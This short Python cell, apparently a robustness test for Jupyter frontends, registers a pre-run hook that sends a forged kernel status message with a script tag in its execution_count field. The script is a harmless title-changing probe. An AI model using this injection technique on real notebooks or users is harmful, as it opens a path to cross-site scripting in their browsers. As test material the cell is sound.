"""Ends each cell with a status of its own whose execution count is neither a number nor harmless."""
# kind: cell
kernel = get_ipython().kernel


def end_it():
    content = {"execution_state": "idle", "execution_count": "<script>document.title='owned'</script>"}
    kernel.session.send(kernel.iopub_socket, "status", content, parent=kernel.get_parent("shell"))


get_ipython().events.register("pre_run_cell", lambda info: end_it())
end_it()
